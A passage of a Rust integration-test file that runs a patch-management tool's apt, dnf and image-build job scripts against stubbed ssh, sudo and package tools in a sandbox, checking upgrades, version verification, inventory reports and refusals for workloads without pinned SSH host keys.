//! The reference job scripts of `examples/jobs/`, run with bash in a
//! sandbox: a fake `ssh` first on PATH records its arguments and stdin and
//! plays the machine (it runs the script it was sent with `sh`, with fake
//! `sudo`, `apt-get`, `dnf` and `rpm` and the real `dpkg-query` over a copy
//! of the dpkg database fixture; version comparisons are the real `dpkg
//! --compare-versions` and rpm's own `rpm.vercmp`); a `patchloop` wrapper
//! runs the real binary with `--dry-run`, so the reported Inventory is
//! checked as the real CLI renders it. Host keys and the client key are real
//! (`ssh-keygen`). Not covered, by design: real SSH to real machines, real
//! package installs and real image builds (see examples/jobs/README.md).

use std::collections::BTreeSet;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use patchloop::engine::inventory::{InputFormat, parse};
use serde_json::Value;

const JOBS: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/examples/jobs");
const FIXTURES: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/fixtures");
const SCRIPTS: [&str; 4] = [
    "apt-remediate.sh",
    "dnf-remediate.sh",
    "template-build.sh",
    "template-test.sh",
];
const DIGEST: &str = "sha256:5d41402abc4b2a76b9719d911017c592d41d8cd98f00b204e9800998ecf8427e";

/// The apt install line of the remediation script (the installed packages
/// among the listed ones follow it, as NAME:ARCH).
const APT_INSTALL: &str = "sudo -n env DEBIAN_FRONTEND=noninteractive apt-get install --only-upgrade -y \
     -o Dpkg::Options::=--force-confdef -o Dpkg::Options::=--force-confold $args </dev/null";

/// What the fake apt-get records for an install of libc-bin and libc6.
const APT_INSTALLED_ARGS: &str = "apt-get install --only-upgrade -y \
     -o Dpkg::Options::=--force-confdef -o Dpkg::Options::=--force-confold libc-bin:amd64 libc6:amd64";

/// An rpm database as a table: name, epoch, version, release, source rpm,
/// arch (tab-separated), read by the fake `rpm`. Two glibc architectures
/// and two installed kernels, as real machines have.
const RPMDB: &str = "glibc\t0\t2.34\t100.el9_4.2\tglibc-2.34-100.el9_4.2.src.rpm\tx86_64
glibc\t0\t2.34\t100.el9_4.2\tglibc-2.34-100.el9_4.2.src.rpm\ti686
openssl-libs\t1\t3.0.7\t27.el9\topenssl-3.0.7-27.el9.src.rpm\tx86_64
perl-Errno\t0\t1.30\t481.el9\tperl-5.32.1-481.el9.src.rpm\tx86_64
kernel-core\t0\t5.14.0\t427.13.1.el9_4\tkernel-5.14.0-427.13.1.el9_4.src.rpm\tx86_64
kernel-core\t0\t5.14.0\t362.8.1.el9_3\tkernel-5.14.0-362.8.1.el9_3.src.rpm\tx86_64
gpg-pubkey\t0\tfd431d51\t4ae0493b\t(none)\t(none)
";

/// What `dnf upgrade` finds in the repositories (same columns).
const RPM_CANDIDATES: &str = "glibc\t0\t2.34\t100.el9_4.4\tglibc-2.34-100.el9_4.4.src.rpm\tx86_64
glibc\t0\t2.34\t100.el9_4.4\tglibc-2.34-100.el9_4.4.src.rpm\ti686
openssl-libs\t1\t3.0.7\t29.el9\topenssl-3.0.7-29.el9.src.rpm\tx86_64
";

/// A temp directory holding the stubs, the fake machine and the logs.
struct Sandbox {
    dir: tempfile::TempDir,
}

fn which(tool: &str) -> String {
    let out = Command::new("sh")
        .args(["-c", &format!("command -v {tool}")])
        .output()
        .expect("sh");
    let path = String::from_utf8_lossy(&out.stdout).trim().to_owned();
    assert!(
        out.status.success() && !path.is_empty(),
        "{tool} is not installed: scripts/testenv.sh installs it"
    );
    path
}

fn write_exec(path: &Path, text: &str) {
    use std::os::unix::fs::PermissionsExt;
    std::fs::write(path, text).expect("write stub");
    std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o755)).expect("chmod");
}

fn keygen(args: &[&str]) {
    let out = Command::new(which("ssh-keygen"))
        .args(args)
        .output()
        .expect("ssh-keygen");
    assert!(
        out.status.success(),
        "ssh-keygen {args:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
}

impl Sandbox {
    fn new() -> Self {
        let sandbox = Sandbox {
            dir: tempfile::tempdir().expect("temp dir"),
        };
        for d in [
            "bin",
            "log",
            "tmp",
            "ssh",
            "remote/bin",
            "remote/dpkg/info",
            "remote/dpkg/updates",
        ] {
            std::fs::create_dir_all(sandbox.path(d)).expect("mkdir");
        }
        std::fs::copy(
            Path::new(FIXTURES).join("dpkg/status"),
            sandbox.path("remote/dpkg/status"),
        )
        .expect("copy the dpkg fixture");
        sandbox.write("remote/candidates", "");
        sandbox.write("remote/rpmdb", RPMDB);
        sandbox.write("remote/rpm-candidates", RPM_CANDIDATES);
        sandbox.write("termination-log", "");

        // Real keys: the Job's client key, and the pinned host keys of two
        // known Workloads (fleet/web-01, fleet/db-01), hashed as ssh-keygen
        // -H does, plus an address-keyed line that must vouch for nothing.
        let ssh = sandbox.path("ssh");
        let ssh = ssh.to_str().expect("utf-8");
        keygen(&[
            "-q",
            "-t",
            "ed25519",
            "-N",
            "",
            "-C",
            "",
            "-f",
            &format!("{ssh}/id_ed25519"),
        ]);
        keygen(&[
            "-q",
            "-t",
            "ed25519",
            "-N",
            "",
            "-C",
            "",
            "-f",
            &format!("{}/host", sandbox.path("tmp").display()),
        ]);
        let host_pub = std::fs::read_to_string(sandbox.path("tmp/host.pub")).expect("host key");
        let host_key = host_pub.split_whitespace().take(2).collect::<Vec<_>>();
        let host_key = host_key.join(" ");
        sandbox.write(
            "ssh/known_hosts",
            &format!("fleet/web-01 {host_key}\nfleet/db-01 {host_key}\n10.0.3.17 {host_key}\n"),
        );
        keygen(&["-H", "-f", &format!("{ssh}/known_hosts")]);
        for f in ["ssh/known_hosts.old", "tmp/host", "tmp/host.pub"] {
            std::fs::remove_file(sandbox.path(f)).expect("remove");
        }
        let hashed = std::fs::read_to_string(sandbox.path("ssh/known_hosts")).expect("hosts");
        assert!(
            !hashed.contains("web-01") && !hashed.contains("10.0.3.17"),
            "known_hosts is hashed: {hashed}"
        );

        let root = sandbox.dir.path().to_str().expect("utf-8").to_owned();
        let stub = |path: &str, text: &str| {
            let text = text
                .replace("@SANDBOX@", &root)
                .replace("@DPKG_QUERY@", &which("dpkg-query"))
                .replace("@RPM@", &which("rpm"))
                .replace("@PATCHLOOP@", env!("CARGO_BIN_EXE_patchloop"));
            write_exec(&sandbox.path(path), &text);
        };
        stub(
            "bin/ssh",
            r#"#!/usr/bin/env bash
# Fake ssh: records argv, the mode of the key it was given and stdin, then
# plays the machine: runs the script it was sent with sh, the fake tools first.
set -euo pipefail
log=@SANDBOX@/log
n=$(( $(find "$log" -name 'ssh.argv.*' | wc -l) + 1 ))
printf '%s\n' "$@" >"$log/ssh.argv.$n"
key= prev=
for a; do [ "$prev" = -i ] && key=$a; prev=$a; done
stat -c %a "$key" >"$log/ssh.keymode.$n"
cat >"$log/ssh.stdin.$n"
if [ -e @SANDBOX@/remote/unreachable ]; then
  echo "ssh: connect to host 10.0.3.17 port 22: Connection refused" >&2
  exit 255
fi
cd @SANDBOX@/remote
exec env PATH="@SANDBOX@/remote/bin:$PATH" REMOTE=@SANDBOX@/remote sh -s <"$log/ssh.stdin.$n"
"#,
        );
        stub(
            "bin/patchloop",
            r#"#!/bin/sh
# The real patchloop, printing the Inventory instead of writing it.
printf '%s\n' "$@" >@SANDBOX@/log/patchloop.argv
exec @PATCHLOOP@ "$@" --dry-run
"#,
        );
        stub(
            "bin/run-in-image",
            r#"#!/bin/sh
# Fake "run in the image": the image's package tools are the fake machine's.
echo "$IMAGE_REF" >>@SANDBOX@/log/image.refs
printf '%s\n' "$@" >>@SANDBOX@/log/image.argv
exec env PATH="@SANDBOX@/remote/bin:$PATH" REMOTE=@SANDBOX@/remote "$@"
"#,
        );
        stub(
            "remote/bin/sudo",
            r#"#!/bin/sh
echo "sudo $*" >>"$REMOTE/sudo.log"
[ "$1" = -n ] || { echo "sudo: a password is required" >&2; exit 1; }
shift
exec "$@"
"#,
        );
        stub(
            "remote/bin/dpkg-query",
            "#!/bin/sh\nexec @DPKG_QUERY@ --admindir=\"$REMOTE/dpkg\" \"$@\"\n",
        );
        stub(
            "remote/bin/apt-get",
            r#"#!/bin/sh
# Fake apt-get: records its arguments; install moves each named package
# (NAME:ARCH, the only form the scripts may pass) to its candidate
# (remote/candidates: name version) in the dpkg database.
echo "apt-get $*" >>"$REMOTE/apt-get.log"
[ "${DEBIAN_FRONTEND:-}" = noninteractive ] || { echo "E: not noninteractive" >&2; exit 100; }
if [ -e "$REMOTE/apt-fails" ]; then echo "E: Unable to locate package libc6" >&2; exit 100; fi
[ "$1" = install ] || exit 0
skip=0
for a; do
  if [ "$skip" = 1 ]; then skip=0; continue; fi
  case $a in -o) skip=1; continue ;; -* | install) continue ;; esac
  case $a in *:*) a=${a%%:*} ;; *) echo "E: $a is not NAME:ARCH" >&2; exit 100 ;; esac
  v=$(awk -v p="$a" '$1 == p { print $2 }' "$REMOTE/candidates")
  [ -n "$v" ] || continue
  awk -v p="$a" -v v="$v" '
    /^Package: / { inpkg = ($2 == p) }
    /^$/ { inpkg = 0 }
    inpkg && /^Version: / { print "Version: " v; next }
    { print }' "$REMOTE/dpkg/status" >"$REMOTE/dpkg/status.new"
  mv "$REMOTE/dpkg/status.new" "$REMOTE/dpkg/status"
done
"#,
        );
        stub(
            "remote/bin/dnf",
            r#"#!/bin/sh
# Fake dnf: records its arguments; upgrade replaces each named package's
# rows (name or name.arch) by its candidate of the same arch.
echo "dnf $*" >>"$REMOTE/dnf.log"
[ "$1" = upgrade ] || exit 0
for a; do
  case $a in -* | upgrade) continue ;; esac
  awk -F'\t' -v OFS='\t' -v p="$a" '
    NR == FNR { cand[$1 "." $6] = $0; next }
    ($1 == p || $1 "." $6 == p) && (($1 "." $6) in cand) { print cand[$1 "." $6]; next }
    { print }' "$REMOTE/rpm-candidates" "$REMOTE/rpmdb" >"$REMOTE/rpmdb.new"
  mv "$REMOTE/rpmdb.new" "$REMOTE/rpmdb"
done
"#,
        );
        stub(
            "remote/bin/rpm",
            r#"#!/bin/sh
# Fake rpm over remote/rpmdb: -q --qf and -qa --queryformat render the rows
# with the given format; --eval is the real rpm (its Lua rpm.vercmp).
case $1 in
  --eval) exec @RPM@ "$@" ;;
  -q) [ "$2" = --qf ] || exit 64; fmt=$3; name=$4 ;;
  -qa) [ "$2" = --queryformat ] || exit 64; fmt=$3; name= ;;
  *) exit 64 ;;
esac
awk -F'\t' -v fmt="$fmt" -v p="$name" '
  p == "" || $1 == p || $1 "." $6 == p {
    s = fmt
    gsub(/%\{NAME\}/, $1, s); gsub(/%\{EPOCHNUM\}/, $2, s); gsub(/%\{VERSION\}/, $3, s)
    gsub(/%\{RELEASE\}/, $4, s); gsub(/%\{SOURCERPM\}/, $5, s); gsub(/%\{ARCH\}/, $6, s)
    printf "%s", s
  }' "$REMOTE/rpmdb" >"$REMOTE/rpm.out"
if [ -n "$name" ] && [ ! -s "$REMOTE/rpm.out" ]; then
  echo "package $name is not installed"
  exit 1
fi
cat "$REMOTE/rpm.out"
"#,
        );
        sandbox
    }

    fn path(&self, rel: &str) -> PathBuf {
        self.dir.path().join(rel)
    }

    fn write(&self, rel: &str, text: &str) {
        std::fs::write(self.path(rel), text).expect("write");
    }

    fn read(&self, rel: &str) -> String {
        std::fs::read_to_string(self.path(rel)).unwrap_or_default()
    }

    fn s(&self, rel: &str) -> String {
        self.path(rel).to_str().expect("utf-8").to_owned()
    }

    /// The contract of a remediation Job for web-01 (10.0.3.17, user patch).
    fn remediation_env(&self) -> Vec<(&'static str, String)> {
        vec![
            ("PATCHLOOP_PURPOSE", "remediation".into()),
            (
                "PATCHLOOP_TARGET",
                r#"{"address":"10.0.3.17","user":"patch","port":22}"#.into(),
            ),
            ("PATCHLOOP_PACKAGES_FILE", self.s("packages")),
            ("PATCHLOOP_WORKLOAD", "web-01".into()),
            ("PATCHLOOP_NAMESPACE", "fleet".into()),
            ("PATCHLOOP_SSH_DIR", self.s("ssh")),
        ]
    }

    /// The contract of a build Job (Debian).
    fn build_env(&self) -> Vec<(&'static str, String)> {
        vec![
            ("PATCHLOOP_PURPOSE", "build".into()),
            ("PATCHLOOP_PACKAGES_FILE", self.s("packages")),
            (
                "PATCHLOOP_BASE_IMAGE",
                "registry.example.com/golden/debian-12:2026.11.1".into(),
            ),
            ("PATCHLOOP_REVISION", "2".into()),
            ("PATCHLOOP_NONCE", "9f86d081884c7d659a2feaa0c55ad015".into()),
            ("PATCHLOOP_CHANGE_REQUEST", "debian-12-base-x7k2p".into()),
            ("PATCHLOOP_TEMPLATE", "debian-12-base".into()),
            ("PATCHLOOP_NAMESPACE", "fleet".into()),
            ("PATCHLOOP_PLATFORM", "Debian:12".into()),
            (
                "PATCHLOOP_IMAGE_REPOSITORY",
                "registry.example.com/golden/debian-12".into(),
            ),
            ("PATCHLOOP_RUN_IN_IMAGE", self.s("bin/run-in-image")),
            (
                "PATCHLOOP_BUILD_COMMAND",
                format!(
                    r#"cp "$DOCKERFILE" {log}/Dockerfile && cp "$CONTEXT/patchloop-upgrade.sh" {log}/upgrade.sh && echo "$IMAGE" >{log}/build && echo {DIGEST} >"$DIGEST_FILE""#,
                    log = self.s("log")
                ),
            ),
        ]
    }

    /// The contract of a test Job (Debian).
    fn test_env(&self) -> Vec<(&'static str, String)> {
        vec![
            ("PATCHLOOP_PURPOSE", "test".into()),
            ("PATCHLOOP_PACKAGES_FILE", self.s("packages")),
            ("PATCHLOOP_PLATFORM", "Debian:12".into()),
            (
                "PATCHLOOP_IMAGE",
                format!("registry.example.com/golden/debian-12@{DIGEST}"),
            ),
            ("PATCHLOOP_RUN_IN_IMAGE", self.s("bin/run-in-image")),
            (
                "PATCHLOOP_SMOKE_TEST",
                format!("echo smoke >>{}/smoke", self.s("log")),
            ),
        ]
    }

    /// Runs a script with bash in a clean environment: `env` plus PATH (the
    /// stubs first), HOME, TMPDIR and the termination log; `unset` names
    /// variables of `env` to leave out.
    fn run(
        &self,
        script: &str,
        args: &[&str],
        env: &[(&'static str, String)],
        unset: &[&str],
    ) -> Output {
        let path = format!(
            "{}:{}",
            self.s("bin"),
            std::env::var("PATH").unwrap_or_default()
        );
        let mut cmd = Command::new("bash");
        cmd.arg(Path::new(JOBS).join(script))
            .args(args)
            .env_clear()
            .env("PATH", path)
            .env("HOME", self.path("tmp"))
            .env("TMPDIR", self.path("tmp"))
            .env("PATCHLOOP_TERMINATION_LOG", self.path("termination-log"));
        for (k, v) in env {
            if !unset.contains(k) {
                cmd.env(k, v);
            }
        }
        cmd.output().expect("bash")
    }

    /// The argv of every ssh call, in order.
    fn ssh_calls(&self) -> Vec<Vec<String>> {
        (1..)
            .map(|n| self.path(&format!("log/ssh.argv.{n}")))
            .take_while(|p| p.exists())
            .map(|p| {
                std::fs::read_to_string(p)
                    .expect("argv")
                    .lines()
                    .map(str::to_owned)
                    .collect()
            })
            .collect()
    }

    /// The Inventory the patchloop wrapper printed (the script's stdout
    /// holds it after the scripts' own lines).
    fn reported_inventory(&self, out: &Output) -> Value {
        let stdout = String::from_utf8_lossy(&out.stdout);
        let start = stdout
            .find("apiVersion: patchloop.dev/v1alpha1")
            .unwrap_or_else(|| panic!("no Inventory in the output:\n{stdout}\n{}", stderr(out)));
        let yaml: String = stdout[start..]
            .lines()
            .take_while(|l| !l.starts_with("apt-remediate:") && !l.starts_with("dnf-remediate:"))
            .take_while(|l| !l.starts_with("template-build:"))
            .collect::<Vec<_>>()
            .join("\n");
        serde_saphyr::from_str(&yaml).expect("Inventory YAML")
    }
}

fn stdout(out: &Output) -> String {
    String::from_utf8_lossy(&out.stdout).into_owned()
}

fn stderr(out: &Output) -> String {
    String::from_utf8_lossy(&out.stderr).into_owned()
}

/// Asserts the exit code; a refusal (2) must also carry the contract's
/// mark, `refused:` at the start of its message (stderr has it after the
/// script's name), or the controller counts it as an ordinary failure.
#[track_caller]
fn assert_exit(out: &Output, code: i32) {
    assert_eq!(
        out.status.code(),
        Some(code),
        "stdout:\n{}\nstderr:\n{}",
        stdout(out),
        stderr(out)
    );
    if code == 2 {
        let err = stderr(out);
        assert!(
            err.lines().any(|l| l
                .split_once(": ")
                .is_some_and(|(_, m)| m.starts_with("refused: "))),
            "a refusal without the mark: {err}"
        );
    }
}

fn with(
    env: &[(&'static str, String)],
    changes: &[(&'static str, &str)],
) -> Vec<(&'static str, String)> {
    let mut env: Vec<_> = env
        .iter()
        .filter(|(k, _)| !changes.iter().any(|(c, _)| c == k))
        .cloned()
        .collect();
    env.extend(changes.iter().map(|(k, v)| (*k, (*v).to_owned())));
    env
}

#[test]
fn every_script_explains_itself_and_refuses_unknown_arguments() {
    let sandbox = Sandbox::new();
    for script in SCRIPTS {
        let out = sandbox.run(script, &["--help"], &[], &[]);
        assert_exit(&out, 0);
        assert!(stdout(&out).starts_with("Usage: "), "{script}: {out:?}");
        assert!(stdout(&out).contains("--dry-run"), "{script}");
        for bad in [&["--bogus"][..], &["--dry-run", "extra"]] {
            let out = sandbox.run(script, bad, &[], &[]);
            assert_exit(&out, 2);
            let last = bad[bad.len() - 1];
            assert!(
                stderr(&out).contains(&format!("unknown argument: {last}")),
                "{script}: {}",
                stderr(&out)
            );
            assert!(stderr(&out).contains("Usage: "), "usage on stderr");
        }
    }
    assert!(sandbox.ssh_calls().is_empty());
}

#[test]
fn apt_renders_the_upgrade_of_the_listed_packages() {
    let sandbox = Sandbox::new();
    sandbox.write(
        "packages",
        "libc-bin 2.36-9+deb12u3 glibc\nlibc6 2.36-9+deb12u3 glibc\n",
    );
    let out = sandbox.run(
        "apt-remediate.sh",
        &["--dry-run"],
        &sandbox.remediation_env(),
        &[],
    );
    assert_exit(&out, 0);
    let text = stdout(&out);
    let lines: Vec<&str> = text.lines().collect();
    assert!(lines.contains(&APT_INSTALL), "{text}");
    assert!(
        lines.contains(&"sudo -n env DEBIAN_FRONTEND=noninteractive apt-get update -q </dev/null"),
        "{text}"
    );
    assert!(lines.contains(&"check libc6 2.36-9+deb12u3 source:Version"));
    // Only installed packages reach apt, as NAME:ARCH (checked on the
    // machine against dpkg's full listing).
    assert!(lines.contains(&"for p in libc-bin libc6; do"), "{text}");
    assert!(
        text.contains(r#"{ print $2 ":" $3 }"#),
        "names become NAME:ARCH: {text}"
    );
    let ssh = lines
        .iter()
        .find(|l| l.starts_with("ssh "))
        .expect("an ssh line");
    for option in [
        "-o IdentitiesOnly=yes",
        "-o BatchMode=yes",
        "-o StrictHostKeyChecking=yes",
        &format!("-o UserKnownHostsFile={}", sandbox.s("ssh/known_hosts")),
        "-o GlobalKnownHostsFile=/dev/null",
        "-o UpdateHostKeys=no",
        "-o HostKeyAlias=fleet/web-01",
        "-o CheckHostIP=no",
        "-p 22 -l patch",
        "-- 10.0.3.17 sh -s",
    ] {
        assert!(ssh.contains(option), "{option} in {ssh}");
    }
    assert!(
        text.contains("patchloop inventory --workload web-01 -n fleet --reporter apt-remediate --from-file dpkg-query:"),
        "{text}"
    );
    assert!(
        sandbox.ssh_calls().is_empty(),
        "--dry-run connects to nothing"
    );

    // root needs no sudo.
    let env = with(
        &sandbox.remediation_env(),
        &[("PATCHLOOP_TARGET", r#"{"address":"10.0.3.17"}"#)],
    );
    let out = sandbox.run("apt-remediate.sh", &["--dry-run"], &env, &[]);
    assert_exit(&out, 0);
    assert!(stdout(&out).contains(
        "\nenv DEBIAN_FRONTEND=noninteractive apt-get install --only-upgrade -y -o Dpkg::Options::=--force-confdef -o Dpkg::Options::=--force-confold $args </dev/null\n"
    ));
    assert!(stdout(&out).contains("-l root"));
}

#[test]
fn dnf_renders_the_upgrade_of_the_listed_packages() {
    let sandbox = Sandbox::new();
    sandbox.write(
        "packages",
        "glibc:i686 2.34-100.el9_4.3 glibc\nopenssl-libs 1:3.0.7-28.el9 openssl\ntzdata 2024a-1.el9\n",
    );
    let env = with(
        &sandbox.remediation_env(),
        &[(
            "PATCHLOOP_TARGET",
            r#"{"address":"10.0.3.18","user":"patch","port":2222}"#,
        )],
    );
    let out = sandbox.run("dnf-remediate.sh", &["--dry-run"], &env, &[]);
    assert_exit(&out, 0);
    let text = stdout(&out);
    let lines: Vec<&str> = text.lines().collect();
    assert!(
        lines.contains(&"sudo -n dnf upgrade -y --refresh $args </dev/null"),
        "{text}"
    );
    assert!(
        lines.contains(&"for p in glibc.i686 openssl-libs tzdata; do"),
        "{text}"
    );
    assert!(text.contains("-o HostKeyAlias=fleet/web-01"), "{text}");
    assert!(lines.contains(&"check glibc.i686 2.34-100.el9_4.3 source"));
    assert!(lines.contains(&"check tzdata 2024a-1.el9 version"));
    assert!(text.contains("-p 2222 -l patch"), "{text}");
    assert!(
        text.contains(
            r"rpm -qa --queryformat '%{NAME}\t%{EPOCHNUM}:%{VERSION}-%{RELEASE}\t%{SOURCERPM}\t%{ARCH}\n'"
        ),
        "the query format patchloop inventory reads: {text}"
    );
    assert!(text.contains("--from-file rpm-qa:"));
    assert!(sandbox.ssh_calls().is_empty());
}

#[test]
fn apt_remediation_upgrades_verifies_and_reports_the_machine() {
    let sandbox = Sandbox::new();
    sandbox.write(
        "packages",
        "libc-bin 2.36-9+deb12u15 glibc\nlibc6 2.36-9+deb12u15 glibc\n",
    );
    sandbox.write(
        "remote/candidates",
        "libc-bin 2.36-9+deb12u15\nlibc6 2.36-9+deb12u15\n",
    );
    let out = sandbox.run("apt-remediate.sh", &[], &sandbox.remediation_env(), &[]);
    assert_exit(&out, 0);
    assert_eq!(
        sandbox.read("remote/apt-get.log"),
        format!("apt-get update -q\n{APT_INSTALLED_ARGS}\n")
    );
    assert!(sandbox.read("remote/sudo.log").starts_with("sudo -n env "));

    // Three connections (install, verify, inventory), each pinned to the
    // policy's known_hosts with a private copy of the key.
    let calls = sandbox.ssh_calls();
    assert_eq!(calls.len(), 3);
    for (n, argv) in calls.iter().enumerate() {
        let joined = argv.join(" ");
        assert!(joined.contains("-o StrictHostKeyChecking=yes"), "{joined}");
        assert!(joined.contains("-o HostKeyAlias=fleet/web-01"), "{joined}");
        assert!(joined.ends_with("-- 10.0.3.17 sh -s"), "{joined}");
        let key = &argv[argv.iter().position(|a| a == "-i").expect("-i") + 1];
        assert_ne!(key, &sandbox.s("ssh/id_ed25519"), "a private copy");
        assert_eq!(sandbox.read(&format!("log/ssh.keymode.{}", n + 1)), "600\n");
    }
    assert!(sandbox.read("log/ssh.stdin.1").contains(APT_INSTALL));
    assert!(
        std::fs::read_dir(sandbox.path("tmp"))
            .expect("tmp")
            .next()
            .is_none(),
        "the work directory (and the key's copy) is removed"
    );

    // The inventory comes from the machine after the upgrade.
    let argv = sandbox.read("log/patchloop.argv");
    assert!(
        argv.starts_with(
            "inventory\n--workload\nweb-01\n-n\nfleet\n--reporter\napt-remediate\n--from-file\ndpkg-query:"
        ),
        "{argv}"
    );
    let inv = sandbox.reported_inventory(&out);
    assert_eq!(
        inv["spec"]["subject"],
        serde_json::json!({"kind": "Workload", "name": "web-01"})
    );
    assert_eq!(inv["metadata"]["namespace"], "fleet");
    assert_eq!(inv["spec"]["format"], "dpkg");
    assert_eq!(inv["spec"]["reporter"], "apt-remediate");
    let packages = inv["spec"]["packages"].as_array().expect("packages");
    assert!(
        packages.contains(&serde_json::json!("libc6 2.36-9+deb12u15 glibc")),
        "{packages:?}"
    );
    let fixture =
        std::fs::read_to_string(Path::new(FIXTURES).join("dpkg/status")).expect("fixture");
    let installed = parse(InputFormat::DpkgStatus, &fixture).expect("fixture parses");
    assert_eq!(packages.len(), installed.len());
    assert_eq!(sandbox.read("termination-log"), "");
}

#[test]
fn apt_remediation_fails_when_a_package_stays_below_its_minimum() {
    let sandbox = Sandbox::new();
    // No candidate reaches u99; cpp compares on its source (gcc-defaults
    // 1.203), not on its own 4:12.2.0-3; bsdutils (source util-linux) is
    // fine, and a package that is not installed cannot be vulnerable.
    sandbox.write(
        "packages",
        "libc6 2.36-9+deb12u99 glibc\ncpp 12.2.0-3 gcc-defaults\n\
         bsdutils 2.38.1-5+deb12u3 util-linux\nnot-installed-here 1.0-1\n",
    );
    let out = sandbox.run("apt-remediate.sh", &[], &sandbox.remediation_env(), &[]);
    assert_exit(&out, 1);
    let message = sandbox.read("termination-log");
    assert_eq!(
        message,
        "libc6 2.36-9+deb12u14 is below the fixed version 2.36-9+deb12u99 (source glibc); \
         cpp 1.203 is below the fixed version 12.2.0-3 (source gcc-defaults)\n"
    );
    // The machine's inventory is still reported: it is what the controller
    // verifies against.
    assert!(
        sandbox
            .read("log/patchloop.argv")
            .starts_with("inventory\n")
    );
    sandbox.reported_inventory(&out);

    // apt itself failing ends the Job at once, with apt's error.
    let sandbox = Sandbox::new();
    sandbox.write("packages", "libc6 2.36-9+deb12u15 glibc\n");
    sandbox.write("remote/apt-fails", "");
    let out = sandbox.run("apt-remediate.sh", &[], &sandbox.remediation_env(), &[]);
    assert_exit(&out, 1);
    let message = sandbox.read("termination-log");
    assert!(
        message.starts_with("install failed on 10.0.3.17 (exit 100): ")
            && message.contains("E: Unable to locate package libc6"),
        "{message}"
    );
    assert_eq!(sandbox.ssh_calls().len(), 1);

    // An unreachable machine (or one presenting another host key: ssh exits
    // 255 either way).
    let sandbox = Sandbox::new();
    sandbox.write("packages", "libc6 2.36-9+deb12u15 glibc\n");
    sandbox.write("remote/unreachable", "");
    let out = sandbox.run("apt-remediate.sh", &[], &sandbox.remediation_env(), &[]);
    assert_exit(&out, 1);
    let message = sandbox.read("termination-log");
    assert!(
        message.starts_with("install: ssh to patch@10.0.3.17:22 failed")
            && message.contains("Connection refused"),
        "{message}"
    );
}

#[test]
fn dnf_remediation_upgrades_verifies_and_reports_the_machine() {
    let sandbox = Sandbox::new();
    // glibc (both arches) and openssl-libs (epoch 1) need the upgrade;
    // perl-Errno compares on its source perl (5.32.1, not its own 1.30);
    // the newest of two installed kernels counts; a minimum without a
    // release matches any release.
    sandbox.write(
        "packages",
        "glibc 2.34-100.el9_4.3 glibc\nopenssl-libs 1:3.0.7-28.el9 openssl\n\
         perl-Errno 5.32.1-481.el9 perl\nkernel-core 5.14.0-427.13.1.el9_4 kernel\n\
         tzdata 2024a\n",
    );
    sandbox.write(
        "remote/rpmdb",
        &format!("{RPMDB}tzdata\t0\t2024a\t1.el9\ttzdata-2024a-1.el9.src.rpm\tnoarch\n"),
    );
    let out = sandbox.run("dnf-remediate.sh", &[], &sandbox.remediation_env(), &[]);
    assert_exit(&out, 0);
    assert_eq!(
        sandbox.read("remote/dnf.log"),
        "dnf upgrade -y --refresh glibc.i686 glibc.x86_64 openssl-libs.x86_64 perl-Errno.x86_64 \
         kernel-core.x86_64 tzdata.noarch\n"
    );
    let verdicts = stdout(&out);
    for line in [
        "ok openssl-libs 1:3.0.7-29.el9 1:3.0.7-28.el9",
        "ok perl-Errno 0:5.32.1-481.el9 5.32.1-481.el9",
        "ok kernel-core 0:5.14.0-427.13.1.el9_4 5.14.0-427.13.1.el9_4",
        "ok tzdata 0:2024a-1.el9 2024a",
    ] {
        assert!(verdicts.contains(line), "{line} in {verdicts}");
    }
    let inv = sandbox.reported_inventory(&out);
    assert_eq!(inv["spec"]["format"], "rpm");
    let packages = inv["spec"]["packages"].as_array().expect("packages");
    for p in [
        "glibc:i686 2.34-100.el9_4.4 glibc",
        "glibc:x86_64 2.34-100.el9_4.4 glibc",
        "openssl-libs 1:3.0.7-29.el9 openssl",
    ] {
        assert!(
            packages.contains(&serde_json::json!(p)),
            "{p}: {packages:?}"
        );
    }
    assert!(
        !packages
            .iter()
            .any(|p| p.to_string().contains("gpg-pubkey")),
        "imported keys are not packages"
    );

    // Below the minimum after the upgrade: named, with its source.
    let sandbox = Sandbox::new();
    sandbox.write(
        "packages",
        "glibc 2.34-101.el9 glibc\nopenssl-libs 2:1.0-1 openssl\n",
    );
    let out = sandbox.run("dnf-remediate.sh", &[], &sandbox.remediation_env(), &[]);
    assert_exit(&out, 1);
    assert_eq!(
        sandbox.read("termination-log"),
        "glibc 0:2.34-100.el9_4.4 is below the fixed version 2.34-101.el9 (source glibc); \
         openssl-libs 1:3.0.7-29.el9 is below the fixed version 2:1.0-1 (source openssl)\n"
    );
}

#[test]
fn a_workload_without_its_own_pinned_key_is_refused_before_ssh_runs() {
    // (workload, target): known_hosts pins fleet/web-01 and fleet/db-01 by
    // name, and has one legacy line for the address 10.0.3.17.
    let cases: [(&str, &str); 5] = [
        // A decoy Workload pointing at web-01's address.
        ("decoy", r#"{"address":"10.0.3.17","user":"patch"}"#),
        // ... or at its port, or by another spelling of the machine.
        ("decoy", r#"{"address":"10.0.3.17","port":2222}"#),
        ("web-02", r#"{"address":"web-01.example.com"}"#),
        // A pinned name in another namespace is another Workload.
        ("web-01", r#"{"address":"10.0.3.17"}"#),
        ("db-02", r#"{"address":"10.0.3.18"}"#),
    ];
    for script in ["apt-remediate.sh", "dnf-remediate.sh"] {
        for (n, (workload, target)) in cases.into_iter().enumerate() {
            let sandbox = Sandbox::new();
            sandbox.write("packages", "tzdata 2024a-0+deb12u1\n");
            let namespace = if n == 3 { "other" } else { "fleet" };
            let env = with(
                &sandbox.remediation_env(),
                &[
                    ("PATCHLOOP_TARGET", target),
                    ("PATCHLOOP_WORKLOAD", workload),
                    ("PATCHLOOP_NAMESPACE", namespace),
                ],
            );
            // Without --dry-run: the refusal is not a dry-run courtesy.
            let out = sandbox.run(script, &[], &env, &[]);
            assert_exit(&out, 2);
            let expected = format!(
                "refused: Workload {namespace}/{workload} has no pinned host key: add a \"{namespace}/{workload} <key-type> <key>\" line to "
            );
            assert!(
                sandbox.read("termination-log").starts_with(&expected),
                "{script} {workload} {target}: {}",
                sandbox.read("termination-log")
            );
            assert!(sandbox.ssh_calls().is_empty(), "{script} {target}: ssh ran");
            assert!(!sandbox.path("log/patchloop.argv").exists());
        }
        // A missing known_hosts pins nothing.
        let sandbox = Sandbox::new();
        sandbox.write("packages", "tzdata 2024a-0+deb12u1\n");
